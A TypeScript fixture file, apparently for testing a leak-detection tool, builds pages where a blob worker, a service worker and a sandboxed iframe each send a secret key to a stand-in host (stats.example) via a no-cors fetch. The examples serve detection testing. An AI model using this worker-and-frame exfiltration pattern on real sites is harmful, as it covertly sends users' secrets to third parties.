import { page, script } from '../site.ts';
import { type Channel, channel, scriptInitiator } from './channel.ts';

const collect = 'https://stats.example/c';
const leak = { url: `${collect}?k=••••••••`, part: 'request.url', name: 'k' } as const;

/** Requests of workers and of frames. */
export function workerChannels(key: string): Channel[] {
  return [blobWorker(key), serviceWorker(key), sandboxedFrame(key)];
}

const trackIn = (key: string) => `function trackHere() {
  return /*leak*/fetch('${collect}?k=${key}', { mode: 'no-cors' });
}
`;

function blobWorker(key: string): Channel {
  const task = `${trackIn(key)}trackHere().finally(() => postMessage('done'));\n`;
  return channel('/blob-worker', {
    ...{ ...leak, wire: `?k=${key}` },
    initiator: { ...scriptInitiator('', task, 'trackHere'), url: 'blob:https://channels.example/' },
    script: `function start() {
  const task = new Blob([${JSON.stringify(task)}], { type: 'text/javascript' });
  new Worker(URL.createObjectURL(task)).onmessage = done;
}

start();
`,
  });
}

function serviceWorker(key: string): Channel {
  const task = `${trackIn(key)}addEventListener('message', ({ source }) => trackHere().finally(() => source.postMessage('done')));\n`;
  return channel('/service-worker', {
    ...{ ...leak, wire: `?k=${key}` },
    initiator: scriptInitiator('/service-worker/task.js', task, 'trackHere'),
    files: { '/service-worker/task.js': script(task) },
    script: `async function start() {
  navigator.serviceWorker.onmessage = done;
  const { installing, active } = await navigator.serviceWorker.register('/service-worker/task.js');
  (installing ?? active).postMessage('start');
}

start();
`,
  });
}

function sandboxedFrame(key: string): Channel {
  const text = `${trackIn(key)}trackHere().finally(done);\n`;
  return channel('/frame-sandboxed', {
    ...{ ...leak, wire: `?k=${key}` },
    body: '<iframe sandbox="allow-scripts" src="/sandboxed"></iframe>',
    initiator: scriptInitiator('/sandboxed.js', text, 'trackHere'),
    files: { '/sandboxed': page('sandboxed', ['/sandboxed.js']), '/sandboxed.js': script(text) },
  });
}
